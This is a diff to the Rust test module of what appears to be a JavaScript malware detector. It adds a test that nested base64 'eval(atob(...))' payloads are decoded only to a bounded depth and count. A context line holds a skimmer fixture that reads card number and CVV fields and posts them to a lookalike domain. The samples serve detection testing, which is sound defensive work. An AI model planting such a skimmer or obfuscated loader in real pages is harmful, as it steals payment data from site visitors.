@@ -453,6 +453,38 @@ mod tests {
         assert_eq!(views(router, &Options::default())[0].rule, None);
     }
 
+    /// Hostile packing cannot make the views grow without bound: payloads nest at most
+    /// `MAX_DECODE_DEPTH` layers and at most `MAX_PAYLOADS` decoded views are analyzed.
+    #[test]
+    fn decoding_is_bounded_in_depth_and_count() {
+        use base64::Engine;
+        let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
+        let mut code = "document.cookie = 'x=1; path=/'; fetch('https://a.example/');".to_string();
+        for _ in 0..10 {
+            code = format!("eval(atob('{}'));", b64(&code));
+        }
+        let v = views(&code, &Options::default());
+        let deepest = v.iter().map(|v| v.decoded).max().unwrap_or(0);
+        assert_eq!(deepest, MAX_DECODE_DEPTH, "{} views", v.len());
+        let wide: String = (0..40)
+            .map(|i| {
+                format!(
+                    "eval(atob('{}'));\n",
+                    b64(&format!(
+                        "var v{i} = eval(atob('{}'));",
+                        b64("var q = document.cookie + location.href;")
+                    ))
+                )
+            })
+            .collect();
+        let v = views(&wide, &Options::default());
+        assert!(
+            v.iter().filter(|v| v.decoded > 0).count() <= MAX_PAYLOADS,
+            "{}",
+            v.len()
+        );
+    }
+
     #[test]
     fn card_fields_posted_to_a_named_domain_are_a_skimmer() {
         let skimmer = "jQuery(document).ready(function () { setInterval(function () { var n = jQuery('#cc_number').val(); if (n) { $.post('https://jquery-cdn.top/g', {n: n, cvv: jQuery('#cvv').val()}); } }, 1000); });";
